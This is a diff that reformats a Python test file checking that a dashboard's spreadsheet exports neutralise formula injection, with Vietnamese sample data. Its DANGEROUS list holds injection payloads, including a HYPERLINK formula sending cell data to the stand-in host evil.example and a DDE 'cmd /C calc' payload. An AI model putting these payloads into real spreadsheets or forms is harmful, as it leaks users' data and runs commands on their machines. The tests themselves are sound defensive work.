@@ -19,8 +19,17 @@ from dxboard.store import Store
 from loaders.ingest import ingest_bytes
 from tests.helpers import fill_template, good_evidence, good_values
 
-DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")', "+1", "-2+3",
-             "@SUM(A1:A9)", "\tx", "\rx", "=cmd|' /C calc'!A0", "-", "="]
+DANGEROUS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
+    "+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+    "=cmd|' /C calc'!A0",
+    "-",
+    "=",
+]
 HARMLESS = ["Hà Nội", "a=b", "1-2", " =not at start", "", "'already quoted"]
 NUMBERS = [-2, -3.5, -1e6, 0, 7, -0.25, 4, -9, 1, 2, 3, -4, 5, 6, 8][: len(DANGEROUS + HARMLESS)]
 COLUMNS = ["=cmd", "+total", "-delta", "@who", "\tname", "tỉnh"]
@@ -28,14 +37,16 @@ COLUMNS = ["=cmd", "+total", "-delta", "@who", "\tname", "tỉnh"]
 
 def _frame() -> pd.DataFrame:
     texts = DANGEROUS + HARMLESS
-    return pd.DataFrame({
-        COLUMNS[0]: texts,                          # pandas' default string dtype
-        COLUMNS[1]: NUMBERS,                        # floats, some negative
-        COLUMNS[2]: [int(n) for n in NUMBERS],      # ints, some negative
-        COLUMNS[3]: pd.array(texts, dtype="string"),
-        COLUMNS[4]: pd.Series(texts, dtype=object),
-        COLUMNS[5]: [t if i % 2 else -i for i, t in enumerate(texts)],  # mixed text and numbers
-    })
+    return pd.DataFrame(
+        {
+            COLUMNS[0]: texts,  # pandas' default string dtype
+            COLUMNS[1]: NUMBERS,  # floats, some negative
+            COLUMNS[2]: [int(n) for n in NUMBERS],  # ints, some negative
+            COLUMNS[3]: pd.array(texts, dtype="string"),
+            COLUMNS[4]: pd.Series(texts, dtype=object),
+            COLUMNS[5]: [t if i % 2 else -i for i, t in enumerate(texts)],  # mixed text and numbers
+        }
+    )
 
 
 def _same(got: str, original: str) -> bool:
@@ -102,7 +113,10 @@ def test_xlsx_cells_and_headers_are_neutralised() -> None:
     for i, (row, original) in enumerate(zip(rows, texts, strict=True)):
         for col in (0, 3, 4):
             assert isinstance(row[col], str) and _same(row[col], _expected_text(original)), (
-                i, col, row[col])
+                i,
+                col,
+                row[col],
+            )
         assert isinstance(row[1], float) and row[1] == NUMBERS[i]
         assert isinstance(row[2], int | float) and row[2] == int(NUMBERS[i])
         if i % 2:
@@ -140,8 +154,10 @@ def test_write_frame_files(tmp_path: Path, fmt: str) -> None:
 def test_cli_export_raw_neutralises_notes_and_reference_numbers(tmp_path: Path, fmt: str) -> None:
     """A note or document number typed into a report cannot become a formula on download."""
     notes = {"procedures_total": "-2+3 (tạm tính)", "budget_total": "@SUM(A1:A9)"}
-    evidence = {**good_evidence(), "steering_committee": ("+84/QĐ-UBND", good_evidence()[
-        "steering_committee"][1])}
+    evidence = {
+        **good_evidence(),
+        "steering_committee": ("+84/QĐ-UBND", good_evidence()["steering_committee"][1]),
+    }
     data = fill_template("Đà Nẵng", "2024-Q2", good_values(), notes=notes, evidence=evidence)
     with Store() as store:
         result = ingest_bytes(store, data, "dn.xlsx")
